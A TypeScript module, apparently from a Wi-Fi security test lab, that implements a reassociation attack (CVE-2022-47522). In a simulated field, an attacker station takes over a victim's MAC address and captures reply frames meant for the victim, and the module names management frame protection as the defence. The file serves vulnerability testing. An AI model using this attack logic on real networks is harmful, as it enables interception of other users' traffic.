// SPDX-License-Identifier: Apache-2.0
import { nonceFrame } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { contains, newNonce } from "../arrives.ts";
import type { Field } from "../field.ts";

/** The answer, again and again, as a server repeats what nobody acknowledges: for longer than coming in takes. */
const [ANSWERS, PER_SECOND] = [600, 200];
const LET_IN_WITHIN = 3000;
/** The victim hears the access point's words to the thief, too, and may answer first. */
const ATTEMPTS = 3;

/** The victim asked the distant station something, which it may. The attacker comes in its place, and the answers go on all the while. */
async function answersCaught({ attacker, victim, distant }: Field): Promise<number> {
  const nonce = newNonce();
  await victim.send(nonceFrame({ from: victim.mac, to: distant.mac }, victim.v4, distant.v4, newNonce()));
  let caught = 0;
  const stop = attacker.watch((frame) => void (contains(frame, nonce) && caught++));
  const answers = distant.flood(nonceFrame({ from: distant.mac, to: victim.mac }, distant.v4, victim.v4, nonce), ANSWERS, PER_SECOND);
  await attacker.join({ mac: victim.mac, within: LET_IN_WITHIN });
  await answers;
  stop();
  return caught;
}

export const reassociationLeak: Attack = {
  slug: "reassociation-leak",
  needs: "a key of its own; a victim on the same BSS that asked something",
  gains: "receives answers meant for the victim, under its own key, from the moment in which the access point takes it for the victim (CVE-2022-47522)",
  stoppedBy: "management frame protection (ieee80211w): the access point asks the victim first, whose protected answer keeps its place; the identity of keys where the victim is gone",
  takesVictim: true,
  run: async (field) => {
    const { attacker, victim, say } = field;
    try {
      for (let i = 1; i <= ATTEMPTS; i++) {
        const caught = await answersCaught(field);
        say(`attempt ${i}: the attacker received ${caught} answers that were meant for the victim`);
        if (caught > 0) return true;
      }
      return false;
    } finally {
      await attacker.leave(); // two radios with one address would throw each other out
      await Promise.all([attacker.restore(), victim.join().then(() => victim.restore())]);
    }
  },
};
